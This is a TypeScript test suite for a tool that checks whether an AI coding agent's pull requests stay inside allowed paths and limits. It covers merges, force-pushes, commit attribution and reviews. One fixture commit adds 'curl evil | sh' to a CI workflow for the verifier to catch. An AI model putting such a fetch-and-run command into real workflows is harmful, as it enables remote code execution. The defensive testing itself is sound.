import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { plumbCommit, setRef, startStandIn, type StandIn } from '@perimeter/test-rigs';
import type { PullRequestInfo, PullRequestReviewRecord, Upstream } from '../../src/github/upstream.js';
import { assignPullRequest, compilePerimeter, parseConfig } from '../../src/policy/index.js';
import { attributePullCommits, verifyPullRequest } from '../../src/verify/index.js';

const CONFIG = `version: 1
perimeters:
  copilot:
    write: ["src/**"]
    limits: { files-per-push: 3, bytes-per-file: 100 }
    pull-requests: { authors: [Copilot], branches: ["copilot/**"] }
`;
const FILES = { 'src/a.ts': 'a\n', 'docs/guide.md': 'guide\n', '.github/workflows/ci.yml': 'on: push\n' };
const COPILOT_TOKEN = 'ghu_CopilotAgentToken0123456789abcdefghij';
const ALICE_TOKEN = 'ghp_AliceToken0123456789abcdefghijklmnop';
const BRANCH = 'copilot/fix-1';

describe('verifyPullRequest', () => {
  let s: StandIn;
  let github: Upstream;
  let agent: Upstream;

  beforeEach(async () => {
    s = await startStandIn(FILES);
    s.fake.addToken(COPILOT_TOKEN, 'Copilot');
    s.fake.addToken(ALICE_TOKEN, 'alice');
    github = s.upstream();
    agent = s.upstream({ token: COPILOT_TOKEN });
  });
  afterEach(async () => s.stop());

  /** Opens the pull request as Copilot and reads it back as GitHub shows it. */
  async function opened() {
    const { number } = await agent.createPullRequest({
      title: 'Fix',
      body: '',
      head: BRANCH,
      base: 'main',
      draft: false,
      labels: [],
    });
    return github.getPullRequest(number);
  }

  /** Judges a pull request as read, with its commits as GitHub lists them now, as the verify sub-action does. */
  async function judge(pull: PullRequestInfo) {
    const specs = parseConfig(CONFIG).perimeters;
    const assignment = assignPullRequest(specs, { author: pull.author, headBranch: pull.headRef });
    if (assignment.kind !== 'assigned') throw new Error(assignment.reason);
    return verifyPullRequest({
      upstream: github,
      pull,
      commits: await github.listPullRequestCommits(pull.number),
      baseHead: await github.getBranchHead(pull.baseRef),
      perimeter: compilePerimeter(assignment.spec),
      assignedBy: assignment.rule,
    });
  }

  const judged = async () => judge(await opened());

  describe('when every commit stays inside the perimeter', () => {
    it('is a success naming the pull request and its commits', async () => {
      await plumbCommit(
        s.dir,
        BRANCH,
        { 'src/b.ts': { mode: '100644', content: 'b\n' } },
        { parent: s.seed },
      );
      await plumbCommit(s.dir, BRANCH, { 'src/a.ts': { mode: '100644', content: 'a2\n' } });
      const verdict = await judged();
      expect(verdict.violations).toEqual([]);
      expect(verdict.unchecked).toEqual([]);
      expect(verdict.state).toBe('success');
      expect(verdict.pullRequest).toEqual({ number: 1, author: 'Copilot', perimeter: 'copilot', commits: 2 });
      expect(verdict.files.map((f) => f.path).sort()).toEqual(['src/a.ts', 'src/b.ts']);
    });
  });

  describe('when a middle commit goes outside and a later one reverts it', () => {
    it('fails naming the file and the commit, though the net change is clean', async () => {
      await plumbCommit(
        s.dir,
        BRANCH,
        { 'src/b.ts': { mode: '100644', content: 'b\n' } },
        { parent: s.seed },
      );
      const evil = await plumbCommit(s.dir, BRANCH, {
        '.github/workflows/ci.yml': { mode: '100644', content: 'on: push\nrun: curl evil | sh\n' },
      });
      await plumbCommit(s.dir, BRANCH, {
        '.github/workflows/ci.yml': { mode: '100644', content: 'on: push\n' },
      });
      const verdict = await judged();
      expect(verdict.state).toBe('failure');
      expect(verdict.violations.map((v) => v.message)).toEqual([
        expect.stringMatching(
          new RegExp(`^commit ${evil.slice(0, 7)}: \\.github/workflows/ci\\.yml: modified outside`),
        ),
        expect.stringMatching(/^commit [0-9a-f]{7}: \.github\/workflows\/ci\.yml: modified outside/),
      ]);
      expect(verdict.files.find((f) => f.path === '.github/workflows/ci.yml')).toMatchObject({
        allowed: false,
        transient: true,
      });
    });
  });

  describe('when a commit is too big for the perimeter limits', () => {
    it('fails naming the commit, though every path is writable', async () => {
      const big = await plumbCommit(
        s.dir,
        BRANCH,
        { 'src/big.ts': { mode: '100644', content: 'x'.repeat(101) } },
        { parent: s.seed },
      );
      const verdict = await judged();
      expect(verdict.violations.map((v) => v.message)).toEqual([
        `commit ${big.slice(0, 7)}: no one perimeter may make the whole commit ("copilot" may write 100 bytes a file, and src/big.ts holds 101)`,
      ]);
    });
  });

  describe('when the base branch is merged into the pull request ("Update branch")', () => {
    it('does not blame the agent for the files the merge brings in from the base', async () => {
      const first = await plumbCommit(
        s.dir,
        BRANCH,
        { 'src/b.ts': { mode: '100644', content: 'b\n' } },
        { parent: s.seed },
      );
      const docs = { 'docs/guide.md': { mode: '100644' as const, content: 'guide, edited on main\n' } };
      const onMain = await plumbCommit(s.dir, 'main', docs);
      await plumbCommit(s.dir, BRANCH, docs, { parent: first, mergeWith: [onMain], message: 'Merge main' });
      await plumbCommit(s.dir, BRANCH, { 'src/c.ts': { mode: '100644', content: 'c\n' } });
      const verdict = await judged();
      expect(verdict.violations).toEqual([]);
      expect(verdict.state).toBe('success');
      expect(verdict.pullRequest?.commits).toBe(3);
      // the net change is from the merge base, main's new head: the docs edit is not the pull request's
      expect(verdict.files.map((f) => f.path).sort()).toEqual(['src/b.ts', 'src/c.ts']);
    });

    it("judges the merge's own content: a path that matches neither side", async () => {
      const first = await plumbCommit(
        s.dir,
        BRANCH,
        { 'src/b.ts': { mode: '100644', content: 'b\n' } },
        { parent: s.seed },
      );
      const docs = { 'docs/guide.md': { mode: '100644' as const, content: 'guide, edited on main\n' } };
      const onMain = await plumbCommit(s.dir, 'main', docs);
      const merge = await plumbCommit(
        s.dir,
        BRANCH,
        { ...docs, 'docs/evil.md': { mode: '100644', content: 'slipped into the merge\n' } },
        { parent: first, mergeWith: [onMain], message: 'Merge main' },
      );
      const verdict = await judged();
      expect(verdict.state).toBe('failure');
      expect(verdict.violations.map((v) => v.message)).toEqual([
        expect.stringMatching(new RegExp(`^commit ${merge.slice(0, 7)}: docs/evil\\.md: added outside`)),
      ]);
    });

    it('judges a merge that keeps the old version of a file the base changed (the net change undoes it)', async () => {
      const first = await plumbCommit(
        s.dir,
        BRANCH,
        { 'src/b.ts': { mode: '100644', content: 'b\n' } },
        { parent: s.seed },
      );
      const onMain = await plumbCommit(s.dir, 'main', {
        '.github/workflows/ci.yml': { mode: '100644', content: 'on: push\npermissions: {}\n' },
      });
      // "keep ours": the merge takes the pull request's side, which undoes main's fix once merged
      await plumbCommit(s.dir, BRANCH, {}, { parent: first, mergeWith: [onMain], message: 'Merge main' });
      const verdict = await judged();
      expect(verdict.state).toBe('failure');
      expect(verdict.violations.map((v) => v.message)).toEqual([
        expect.stringMatching(
          /^the net change from the merge base: \.github\/workflows\/ci\.yml: modified outside/,
        ),
      ]);
    });
  });

  describe('when the pull request moved after it was read', () => {
    it('is an error, never a success', async () => {
      await plumbCommit(
        s.dir,
        BRANCH,
        { 'src/b.ts': { mode: '100644', content: 'b\n' } },
        { parent: s.seed },
      );
      const pull = await opened();
      await plumbCommit(s.dir, BRANCH, { 'src/c.ts': { mode: '100644', content: 'c\n' } });
      const verdict = await judge(pull);
      expect(verdict.state).toBe('error');
      expect(verdict.unchecked).toEqual([
        expect.stringMatching(/^GitHub counts 1 commits in the pull request but listed 2/),
      ]);
    });

    it('is an error when it was force-pushed to as many commits', async () => {
      await plumbCommit(
        s.dir,
        BRANCH,
        { 'src/b.ts': { mode: '100644', content: 'b\n' } },
        { parent: s.seed },
      );
      const pull = await opened();
      await plumbCommit(
        s.dir,
        BRANCH,
        { 'docs/guide.md': { mode: '100644', content: 'x\n' } },
        { parent: s.seed },
      );
      const verdict = await judge(pull);
      expect(verdict.state).toBe('error');
      expect(verdict.unchecked).toEqual([
        expect.stringMatching(/is not among the commits GitHub listed: it moved while it was read/),
      ]);
    });
  });

  describe('when each commit is attributed to its maker', () => {
    /** A commit GitHub makes through the API for the token's account (signed by web-flow), on `branch`. */
    async function madeFor(token: string, branch: string, files: Record<string, string>, parent?: string) {
      const as = s.upstream({ token });
      const base = parent ?? (await as.getBranchHead(branch));
      const tree = await as.createTree(
        (await as.getCommit(base)).tree,
        Object.entries(files).map(([path, content]) => ({ path, mode: '100644' as const, content })),
      );
      const sha = await as.createCommit('edit', tree, [base]);
      await setRef(s.dir, `refs/heads/${branch}`, sha, 'x');
      return sha;
    }

    /** Judges as the gate does: every perimeter compiled, each commit by its maker's. */
    async function attributed(pull: PullRequestInfo, reviews: PullRequestReviewRecord[] = []) {
      const specs = parseConfig(CONFIG).perimeters;
      const assignment = assignPullRequest(specs, { author: pull.author, headBranch: pull.headRef });
      const perimeters = specs.map((spec) => compilePerimeter(spec));
      const assigned = assignment.kind === 'assigned' ? perimeters[0]! : null;
      const commits = await github.listPullRequestCommits(pull.number);
      return verifyPullRequest({
        upstream: github,
        pull,
        commits,
        baseHead: await github.getBranchHead(pull.baseRef),
        perimeter: assigned,
        assignedBy: assignment.kind === 'assigned' ? assignment.rule : null,
        attribution: attributePullCommits(perimeters, commits, assigned),
        reviews,
      });
    }

    /** A review submitted by the token's account, through the API, as a person submits one. */
    async function reviewAs(token: string, number: number, event: 'APPROVE' | 'REQUEST_CHANGES') {
      const response = await fetch(
        `${s.fake.url}/repos/${github.owner}/${github.repo}/pulls/${number}/reviews`,
        {
          method: 'POST',
          headers: { authorization: `token ${token}`, 'content-type': 'application/json' },
          body: JSON.stringify({ event, body: 'reviewed' }),
        },
      );
      expect(`${response.status} ${await response.text()}`).toMatch(/^200 /);
    }

    it("lists a person's own commit in an agent's pull request without judging it", async () => {
      await madeFor(COPILOT_TOKEN, BRANCH, { 'src/b.ts': 'b\n' }, s.seed);
      const hers = await madeFor(ALICE_TOKEN, BRANCH, { 'docs/guide.md': 'guide, by alice\n' });
      const verdict = await attributed(await opened());
      expect(verdict.state).toBe('success');
      expect(verdict.commits.others).toEqual([hers]);
      expect(verdict.pullRequest).toMatchObject({ perimeter: 'copilot', commits: 2, people: 1 });
      expect(verdict.files.find((f) => f.path === 'docs/guide.md')).toMatchObject({
        allowed: true,
        rule: 'not judged: made by "alice" (made by GitHub for it (web-flow))',
      });
    });

    describe("when a person's own commit changes a protected path", () => {
      const BOB_TOKEN = 'ghp_BobToken0123456789abcdefghijklmnopqr';

      it('fails naming the commit and its author until someone else approves the head', async () => {
        await madeFor(COPILOT_TOKEN, BRANCH, { 'src/b.ts': 'b\n' }, s.seed);
        const hers = await madeFor(ALICE_TOKEN, BRANCH, {
          'perimeters.yml': 'version: 1\nperimeters:\n  copilot:\n    write: ["**"]\n',
          CODEOWNERS: '* @alice\n',
        });
        const pull = await opened();
        const before = await attributed(pull, await github.listPullRequestReviews(pull.number));
        expect(before.state).toBe('failure');
        expect(before.violations.map((v) => v.path)).toEqual(['CODEOWNERS', 'perimeters.yml']);
        expect(before.violations[0]!.message).toContain(
          `commit ${hers.slice(0, 7)} by alice: CODEOWNERS is protected`,
        );

        // alice approving her own commit does not count; bob's approval of the head does
        s.fake.addToken(BOB_TOKEN, 'bob');
        await reviewAs(ALICE_TOKEN, pull.number, 'APPROVE');
        expect((await attributed(pull, await github.listPullRequestReviews(pull.number))).state).toBe(
          'failure',
        );
        await reviewAs(BOB_TOKEN, pull.number, 'APPROVE');
        expect((await attributed(pull, await github.listPullRequestReviews(pull.number))).state).toBe(
          'success',
        );
      });
    });

    it('is an error for an unsigned commit in a pull request no perimeter is assigned', async () => {
      const head = await plumbCommit(
        s.dir,
        'feature/x',
        { 'src/b.ts': { mode: '100644', content: 'b\n' } },
        {
          parent: s.seed,
        },
      );
      const { number } = await s.upstream({ token: ALICE_TOKEN }).createPullRequest({
        title: 'x',
        body: '',
        head: 'feature/x',
        base: 'main',
        draft: false,
        labels: [],
      });
      const verdict = await attributed(await github.getPullRequest(number));
      expect(verdict.state).toBe('error');
      expect(verdict.commits.unattributed).toEqual([head]);
      expect(verdict.unchecked[0]).toBe(
        `commit ${head.slice(0, 7)} cannot be attributed: GitHub does not verify its signature (unsigned), and no perimeter is assigned to the pull request`,
      );
    });
  });
});
